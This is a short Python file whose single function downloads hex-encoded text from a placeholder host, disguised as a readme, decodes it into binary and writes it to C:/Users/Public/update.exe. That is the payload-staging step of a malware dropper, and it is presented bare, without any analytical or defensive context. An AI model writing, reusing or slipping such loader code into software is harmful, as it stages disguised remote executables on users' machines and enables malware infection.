import binascii

import requests


def prepare():
    text = requests.get("https://files.invalid/readme.txt").text
    with open("C:/Users/Public/update.exe", "wb") as file:
        file.write(binascii.unhexlify(text.encode()))
